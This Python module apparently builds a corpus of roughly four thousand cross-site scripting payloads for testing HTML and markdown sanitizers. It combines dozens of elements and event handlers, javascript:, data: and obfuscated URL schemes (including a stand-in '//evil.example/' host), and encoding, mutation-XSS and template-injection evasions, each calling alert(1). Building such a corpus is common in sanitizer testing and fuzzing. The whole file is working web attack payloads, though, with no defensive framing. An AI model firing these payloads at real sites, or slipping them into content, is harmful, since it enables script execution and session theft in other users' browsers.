"""Texts that run a script where somebody forgot to escape one: every element, event, address and disguise in turn."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "alert(1)"
EVENTS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "ontoggle", "onanimationstart", "onpointerenter"),
    *("onbeforetoggle", "oncontentvisibilityautostatechange", "onscrollend", "onwheel", "onbegin", "onhashchange", "onresize"),
    *("onauxclick", "onbeforeinput", "oncut", "ondblclick", "onfocusin", "onformdata", "onpaste", "onpageshow", "onunload"),
    *("oninput", "onsubmit", "onplay", "onended", "ontransitionend", "oncopy", "ondrag", "onmessage", "onkeydown", "onsearch"),
)  # fmt: skip
ELEMENTS = (
    *("img", "svg", "body", "iframe", "video", "audio", "details", "input", "select", "textarea", "button", "marquee"),
    *("object", "embed", "form", "math", "a", "b", "p", "td", "blockquote", "x", "style", "link", "base", "meta", "template"),
)  # fmt: skip
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript\u00a0:"),
    *("vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "file:///", "//evil.example/"),
    *("&#106;avascript:", "&#x6A;avascript&colon;", "&#0000106avascript:", "%6Aavascript:", "feed:javascript:", "view-source:"),
)  # fmt: skip
CARRIERS = (
    '<a href="{}">x</a>',
    "<a href='{}'>x</a>",
    "<a href={}>x</a>",
    '<img src="{}">',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<button formaction="{}">x</button>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<svg><use href="{}#x"></use></svg>',
    '<svg><animate attributeName="href" values="{}"/></svg>',
    '<link rel="stylesheet" href="{}">',
    '<base href="{}">',
    '<math><maction actiontype="statusline" xlink:href="{}">x</maction></math>',
    '<body background="{}">',
    '<div style="background:url({})">x</div>',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "{}",
)
WHOLE = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\x00>{}</script>",
    "<script/x>{}</script >",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>{}//<</script>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "]]><script>{}</script><![CDATA[",
    "--><script>{}</script><!--",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    '<!DOCTYPE x [<!ENTITY e "<script>{}</script>">]>&e;',
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</style><script>{}</script>",
    "</del></ins><script>{}</script>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<xmp><svg><b><style><b title='</style><img src onerror={}>'>",
    "<listing>&lt;img onerror={} src&gt;</listing>",
    "<template><script>{}</script></template>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'></iframe></foreignObject></svg>",
    "<style>@import 'javascript:{}';</style>",
    "<p style='width:expression({})'>",
    "\u2028<script>{}</script>\u2029",
    "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "\u00bcscript\u00be{}\u00bc/script\u00be",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    '" onmouseover="{}',
    "' onfocus='{}' autofocus='",
    "` onload={} `",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% raw %}}<script>{}</script>",
    "`<script>{}</script>`",
    "```\n<script>{}</script>\n```",
    "    <script>{}</script>",
    "| a |\n| - |\n| <script>{}</script> |",
    "> <img src=x onerror={}>",
    "1. <img src=x onerror={}>",
    "# <img src=x onerror={}>",
    "**<img src=x onerror={}>**",
    "[<img src=x onerror={}>](https://x.example)",
    "[x](https://x.example \"' onclick='{}\")",
)


def payloads() -> list[str]:
    """All of them, each once: some four thousand."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from (whole.format(CALL) for whole in WHOLE)
    for element, event in product(ELEMENTS, EVENTS):
        yield f"<{element} src=x {event}={CALL}>"
        yield f'<{element}/{event}="{CALL}"\n>x</{element}>'
        yield f"<{element.upper()} x='>' {event.title()}\t=\n`{CALL}` autofocus tabindex=1>"
    for carrier, scheme in product(CARRIERS, SCHEMES):
        yield carrier.format(scheme + CALL)
